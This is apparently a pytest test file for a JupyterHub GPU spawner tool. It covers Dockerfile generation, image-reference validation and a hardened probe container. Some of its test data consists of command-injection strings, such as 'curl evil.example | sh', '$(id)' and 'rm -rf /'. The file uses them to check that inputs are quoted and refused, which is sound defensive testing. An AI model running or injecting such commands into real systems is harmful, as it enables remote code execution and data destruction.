from __future__ import annotations

import io
import shlex

import pytest

from jupyter_gpuspawn import __version__, cli, images
from jupyter_gpuspawn.images import (
    ENTRYPOINT,
    assess_labels,
    build_command,
    check_image_reference,
    dockerfile,
    probe_singleuser,
    version_mismatch,
)


@pytest.mark.parametrize(
    "base",
    [
        "continuumio/miniconda3:24.7.1-0",
        "nvcr.io/nvidia/pytorch:24.08-py3",
        "nvidia/cuda:12.4.1-runtime-ubuntu22.04",
    ],
)
def test_dockerfile_pins_jupyterhub_and_sets_the_entrypoint(base):
    text = dockerfile(base, "6.1.1", wheel_name="jupyter_gpuspawn-0.1.0-py3-none-any.whl")
    assert text.splitlines()[1] == f"FROM {base}"
    assert '"jupyterhub==6.1.1"' in text
    assert 'ENTRYPOINT ["/usr/local/bin/jupyter-gpuspawn-entrypoint"]' in text
    assert 'CMD ["jupyterhub-singleuser"]' in text
    assert f'org.jupyter.gpuspawn.ready="{__version__}"' in text
    assert 'org.jupyter.gpuspawn.jupyterhub-version="6.1.1"' in text
    # conda's python is preferred (Miniconda bases), then the system's (NGC, Debian/Ubuntu)
    assert "for p in /opt/conda/bin/python python3 python" in text
    assert "--system-site-packages" in text  # the base's own torch/tensorflow stay importable
    assert "--no-cache-dir" in text and "/var/lib/apt/lists/*" in text
    assert "PIP_CERT" not in text


def test_dockerfile_with_ca_bundle():
    text = dockerfile("python:3.12-slim", "6.1.1", wheel_name="w.whl", ca_bundle=True)
    assert "COPY gpuspawn/ca-bundle.crt" in text and "PIP_CERT=" in text


def test_entrypoint_never_needs_root_and_sanitises_the_name():
    assert "sudo" not in ENTRYPOINT and "su " not in ENTRYPOINT
    assert "tr -c 'A-Za-z0-9._@+-' '_'" in ENTRYPOINT
    assert ENTRYPOINT.rstrip().endswith('exec "$@"')


def test_build_command_suggests_a_local_tag():
    assert (
        build_command("nvcr.io/nvidia/pytorch:24.08-py3")
        == "jupyter-gpuspawn build-image --base nvcr.io/nvidia/pytorch:24.08-py3 "
        "--tag local/pytorch-hub:24.08-py3"
    )
    assert build_command("ubuntu").endswith("--tag local/ubuntu-hub:latest")


def test_readiness_from_labels():
    ready = assess_labels(
        "x",
        {
            "Config": {
                "Labels": {
                    "org.jupyter.gpuspawn.ready": "0.1.0",
                    "org.jupyter.gpuspawn.jupyterhub-version": "5.2.1",
                }
            },
            "Size": 10,
        },
    )
    assert ready.ready and ready.jupyterhub_version == "5.2.1" and ready.size == 10
    assert not assess_labels("x", {"Config": {"Labels": None}}).ready


def test_version_mismatch_is_major_minor():
    assert version_mismatch("5.2.1", "6.1.1")
    assert not version_mismatch("6.1.0", "6.1.1")
    assert not version_mismatch(None, "6.1.1")


def test_install_python_only_when_asked():
    plain = dockerfile("nvidia/cuda:12.4.1-runtime-ubuntu22.04", "6.1.1", wheel_name="w.whl")
    assert 'if [ -z "$PY" ] && [ "0" = 1 ]' in plain
    asked = dockerfile("r-base:4.4.1", "6.1.1", wheel_name="w.whl", install_python=True)
    assert 'if [ -z "$PY" ] && [ "1" = 1 ]' in asked and "python3-venv" in asked


def test_slow_iri_validator_is_dropped_from_the_venv_unless_kept():
    default = dockerfile("python:3.12-slim", "6.1.1", wheel_name="w.whl")
    assert '/opt/jupyter-gpuspawn/*) if [ "0" = 0 ]; then' in default
    assert "$PIP uninstall -y -q rfc3987-syntax" in default
    kept = dockerfile("python:3.12-slim", "6.1.1", wheel_name="w.whl", keep_rfc3987_syntax=True)
    assert '/opt/jupyter-gpuspawn/*) if [ "1" = 0 ]' in kept
    # only the venv's copy is ever removed; a base's own copy is reported, never touched
    assert "note: the base's own rfc3987-syntax" in default


def test_build_command_quotes_what_it_prints():
    hostile = "local/x:1; curl evil.example | sh"
    command = build_command(hostile)
    assert shlex.split(command) == [
        "jupyter-gpuspawn",
        "build-image",
        "--base",
        hostile,
        "--tag",
        "local/x-hub:1; curl evil.example | sh",
    ]
    assert command.startswith(
        "jupyter-gpuspawn build-image --base 'local/x:1; curl evil.example | sh' --tag "
    )
    digest = "nvcr.io/nvidia/pytorch@sha256:" + "a" * 64
    assert shlex.split(build_command(digest))[-1] == "local/pytorch-hub:latest"


GOOD_BASES = [
    "python:3.12-slim",
    "nvcr.io/nvidia/pytorch:24.08-py3",
    "localhost:5000/team/img:1.0",
    "continuumio/miniconda3:24.7.1-0",
    "nvidia/cuda:12.4.1-runtime-ubuntu22.04",
    "ubuntu",
    "local/base:bookworm",
    "my-registry.example.com/a/b__c/d-e:latest",
    "python@sha256:" + "0123456789abcdef" * 4,
    "quay.io/jupyter/base-notebook:2024-12-02@sha256:" + "f" * 64,
]
BAD_BASES = [
    "python:3.12\nRUN curl evil.example | sh",
    "python:3.12\r\nUSER root",
    "python:3.12 AS builder",
    "",
    " python",
    "python:3.12 ",
    "Python:3.12",
    "$(id)",
    "python:`id`",
    'python:3"; echo x; "',
    "--network=host",
    "python:3.12#x",
    "python:" + "t" * 200,
    "pythön:3",
    "a//b",
    "python:3.12\x00",
    "${BASE}",
    "python@sha256:abc",
]


@pytest.mark.parametrize("base", GOOD_BASES)
def test_image_references_are_accepted(base):
    assert check_image_reference(base) == base
    assert dockerfile(base, "6.1.1", wheel_name="w.whl").splitlines()[1] == f"FROM {base}"


@pytest.mark.parametrize("base", BAD_BASES)
def test_bases_that_are_not_image_references_are_refused(base, monkeypatch, capsys):
    with pytest.raises(ValueError, match="is not an image reference"):
        dockerfile(base, "6.1.1", wheel_name="w.whl")

    def never(*args, **kwargs):
        raise AssertionError("nothing may be built or run for a bad base")

    monkeypatch.setattr(images, "build_wheel", never)
    monkeypatch.setattr(images.subprocess, "Popen", never)
    with pytest.raises(ValueError, match="is not an image reference"):
        images.build_image(base, "local/x:1")
    for extra in (["--tag", "local/x:1"], ["--dockerfile-only"]):
        assert cli.main(["build-image", f"--base={base}"] + extra) == 2
        out, err = capsys.readouterr()
        assert out == "" and err.startswith("error: --base ") and err.count("\n") == 1, err
        assert "Traceback" not in err and "is not an image reference" in err


def test_dockerfile_refuses_odd_wheel_names_and_versions():
    with pytest.raises(ValueError):
        dockerfile("python:3.12", "6.1.1", wheel_name="w.whl; rm -rf /")
    with pytest.raises(ValueError):
        dockerfile("python:3.12", "6.1.1\nRUN x", wheel_name="w.whl")


class RecordingClient:
    """The docker-py APIClient calls probe_singleuser makes, recorded; host configs are built by the
    real docker-py (so the kwargs must be ones it accepts), nothing reaches an engine."""

    def __init__(self, start_error=None, wait_error=None, status=0):
        import docker

        self.real = docker.APIClient(base_url="unix:///nonexistent.sock", version="1.41")
        self.start_error, self.wait_error, self.status = start_error, wait_error, status
        self.calls = []

    def create_host_config(self, **kwargs):
        return self.real.create_host_config(**kwargs)

    def create_container(self, image, **kwargs):
        self.calls.append(("create", image, kwargs))
        return {"Id": "probe1"}

    def start(self, container):
        self.calls.append(("start", container))
        if self.start_error:
            raise self.start_error

    def wait(self, container, timeout=None):
        self.calls.append(("wait", container))
        if self.wait_error:
            raise self.wait_error
        return {"StatusCode": self.status}

    def remove_container(self, container, force=False):
        self.calls.append(("remove", container, force))


def test_the_image_probe_runs_hardened():
    client = RecordingClient()
    assert probe_singleuser(client, "local/unknown:1") is True
    [create, start, wait, remove] = client.calls
    _, image, kwargs = create
    assert image == "local/unknown:1"
    assert kwargs["user"] == "65534:65534"
    assert kwargs["environment"] == {"NVIDIA_VISIBLE_DEVICES": "void"}
    assert kwargs["network_disabled"] is True
    host = kwargs["host_config"]
    assert host["CapDrop"] == ["ALL"]
    assert host["SecurityOpt"] == ["no-new-privileges:true"]
    assert host["Memory"] == 256 * 1024**2
    assert host["PidsLimit"] == 64
    assert host["NetworkMode"] == "none"
    assert not host.get("Privileged") and not host.get("DeviceRequests") and not host.get("Binds")
    assert remove == ("remove", "probe1", True)


@pytest.mark.parametrize("failure", ["start", "wait", "status"])
def test_the_image_probe_container_is_removed_however_it_ends(failure):
    import docker

    client = RecordingClient(
        start_error=docker.errors.APIError("cannot start: exec format error")
        if failure == "start"
        else None,
        wait_error=TimeoutError("read timed out") if failure == "wait" else None,
        status=127 if failure == "status" else 0,
    )
    assert probe_singleuser(client, "local/broken:1") is False
    assert client.calls[-1] == ("remove", "probe1", True)
    assert [c[0] for c in client.calls].count("remove") == 1


@pytest.mark.parametrize(
    "docker_output, says_no_python",
    [
        # docker echoes the step's command, whose text holds the no-Python message, then fails later
        (
            [
                'Step 5/9 : RUN set -eu; echo "jupyter-gpuspawn: the base image b has no Python"',
                "ERROR: No matching distribution found for rfc3987-syntax",
                "The command '/bin/sh -c set -eu; ...' returned a non-zero code: 1",
            ],
            False,
        ),
        (["jupyter-gpuspawn: the base image b has no Python", "returned a non-zero code: 3"], True),
        (["ERROR: process did not complete successfully: exit code: 3"], True),
    ],
)
def test_no_python_is_reported_only_when_the_python_check_failed(
    monkeypatch, tmp_path, docker_output, says_no_python
):
    class FakeDocker:
        def __init__(self, *args, **kwargs):
            self.stdout = iter(line + "\n" for line in docker_output)

        def wait(self):
            return 1

    monkeypatch.setattr(images.subprocess, "Popen", FakeDocker)
    monkeypatch.setattr(images, "hub_jupyterhub_version", lambda: "6.1.1")
    wheel = tmp_path / "jupyter_gpuspawn-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"")
    out = io.StringIO()
    assert images.build_image("local/b:1", "local/t:1", wheel=str(wheel), out=out) == 1
    assert ("has no Python; use a base with Python 3" in out.getvalue()) is says_no_python


def test_pip_mirror_build_args_reach_pip():
    """docker passes --build-arg X to RUN only when the Dockerfile declares ARG X (else it warns
    and pip goes to pypi.org): the mirror settings are declared before the first RUN."""
    text = dockerfile("python:3.12-slim", "6.1.1", wheel_name="w.whl")
    first_run = text.index("\nRUN ")
    for name in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST"):
        assert f"\nARG {name}\n" in text[:first_run]


def test_the_images_checklist_covers_course_files_and_dockerspawners_default(tmp_path):
    from dockerspawner import DockerSpawner

    courses = tmp_path / "courses"
    courses.mkdir()
    (courses / "dl.yaml").write_text(
        "id: dl\ntitle: DL\nimages:\n"
        "  - {key: torch, image: 'local/course-torch:1'}\n"
        "  - {key: tf, image: 'local/course-tf:2'}\n"
    )
    (courses / "broken.yaml").write_text("id: [\n")  # reported by validate, not here
    found = cli.configured_images({"courses_dir": str(courses)})
    assert found == [DockerSpawner.image.default_value, "local/course-torch:1", "local/course-tf:2"]
    assert cli.configured_images({"image": "a:1", "allowed_images": {"x": "b:1", "y": "a:1"}}) == [
        "a:1",
        "b:1",
    ]


def test_build_image_without_jupyterhub_installed_is_one_line_and_exit_2(monkeypatch, capsys):
    from importlib.metadata import PackageNotFoundError

    def not_installed(name):
        raise PackageNotFoundError(name)

    def nothing_may_run(*args, **kwargs):
        raise AssertionError("no pip wheel and no docker build without JupyterHub")

    monkeypatch.setattr(images, "dist_version", not_installed)
    monkeypatch.setattr(images.subprocess, "run", nothing_may_run)
    monkeypatch.setattr(images.subprocess, "Popen", nothing_may_run)
    images.hub_jupyterhub_version.cache_clear()  # an earlier test may have cached the real one
    try:
        code = cli.main(["build-image", "--base", "python:3.12-slim", "--tag", "local/x:1"])
    finally:
        images.hub_jupyterhub_version.cache_clear()
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert err.startswith("error: JupyterHub is not installed here") and "[hub]" in err


def test_the_cli_reaches_a_tls_manager_as_the_spawner_does(monkeypatch):
    for name in ("DOCKER_HOST", "DOCKER_TLS_VERIFY", "DOCKER_CERT_PATH"):
        monkeypatch.delenv(name, raising=False)
    settings = {
        "tls_config": {"verify": False},
        # a fixed API version: the client asks no engine for it
        "client_kwargs": {"base_url": "tcp://127.0.0.1:2376", "version": "1.41"},
    }
    assert cli._docker_client(settings).base_url == "https://127.0.0.1:2376"
    del settings["tls_config"]
    assert cli._docker_client(settings).base_url == "http://127.0.0.1:2376"
